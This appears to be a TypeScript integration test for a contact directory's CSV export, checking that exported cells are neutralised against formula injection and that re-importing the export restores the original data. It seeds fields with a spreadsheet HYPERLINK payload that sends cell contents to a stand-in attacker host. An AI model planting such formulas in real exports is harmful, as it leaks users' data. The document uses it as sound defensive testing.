// CSV export × formula prefixes: every text column of the directory's CSV (from
// the plugin's own column table) gets a value starting with each character
// OWASP lists (= + - @ TAB CR). In the export no cell may start with one of
// them; phone numbers keep their "+51" and every digit; importing the export
// gives back exactly what was exported (the import undoes the neutralisation).
import { parse } from 'csv-parse/sync';
import { app, http } from './support';
import { sessionOf } from './support';
import { fixtures, suffix } from '../../helpers/fixtures';

const CONTACT = 'api::protocol-contact.protocol-contact';
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA_START = /^[=+\-@\t\r]/;

const { COLUMNS } = require('../../../dist/src/plugins/protocol/server/src/services/columns');
const attributes = () => (app().getModel(CONTACT) as any).attributes;

/** Text columns whose field takes free text (no pattern of its own). */
const freeTextColumns = (): string[] =>
  COLUMNS.filter((c: any) => c.kind === 'text' && !attributes()[c.name]?.regex).map((c: any) => c.name);

const payload = (prefix: string) => `${prefix}HYPERLINK("http://attacker.invalid/?x="&A1;"Ver")`;

const api = async (method: 'get' | 'post', path: string, body?: object) => {
  const session = await sessionOf('protocolo');
  const req = http()[method](`/protocol${path}`).set('Authorization', `Bearer ${session.token}`);
  return body ? req.send(body) : req;
};

let tag: string;
const created: Array<{ documentId: string; data: Record<string, string> }> = [];

beforeAll(async () => {
  tag = suffix();
  const columns = freeTextColumns();
  for (const [i, prefix] of PREFIXES.entries()) {
    const data: Record<string, string> = Object.fromEntries(columns.filter((c) => c !== 'contactKey').map((c) => [c, payload(prefix)]));
    data.contactKey = `csv-${tag}-${i}`;
    data.personalPhone = i % 2 ? '+51 952 604 118' : '-952 604 118';
    data.institutionalPhone = '+51 (052) 42-1234';
    const contact = await app().documents(CONTACT).create({ data: { ...fixtures.contact(), ...data, precedenceRank: null } } as any);
    created.push({ documentId: contact.documentId, data });
  }
});

const exportCsv = async () => {
  const res = await api('post', '/directory/export', { format: 'csv', documentIds: created.map((c) => c.documentId) });
  expect(res.status).toBe(200);
  return res.text as string;
};

it('no exported cell starts a formula, for every text column × every OWASP prefix', async () => {
  const csv = await exportCsv();
  const rows: string[][] = parse(csv, { bom: true });
  const header = rows[0];
  expect(header).toEqual(expect.arrayContaining([...freeTextColumns(), 'personalPhone']));
  const cells = rows.slice(1).flat();
  expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  // Every payload is there, marked as text, nothing else changed.
  for (const prefix of PREFIXES) expect(cells).toContain(`'${payload(prefix)}`);
  // A spreadsheet in a Spanish locale splits on ";": a cell holding one is quoted.
  expect(csv).toContain(`"'${payload('=').replace(/"/g, '""')}"`);
  // Phone numbers: every digit and the "+51" still there for a human reader.
  expect(cells).toContain(`'+51 952 604 118`);
});

it('the import reads back exactly what the export wrote', async () => {
  const csv = await exportCsv();
  const dry = await api('post', '/directory/import', { csv, dryRun: true });
  expect(dry.status).toBe(200);
  expect(dry.body.data).toMatchObject({ valid: true, updates: created.length, problems: [] });
  // Change them, then import the export: the originals come back.
  for (const { documentId } of created) await app().documents(CONTACT).update({ documentId, data: { position: 'Otro cargo', personalPhone: '+51 900 000 000' } } as any);
  const commit = await api('post', '/directory/import', { csv, dryRun: false });
  expect(commit.status).toBe(200);
  for (const { documentId, data } of created) {
    const stored: any = await app().documents(CONTACT).findOne({ documentId } as any);
    for (const [field, value] of Object.entries(data)) expect([field, stored[field]]).toEqual([field, value]);
  }
});
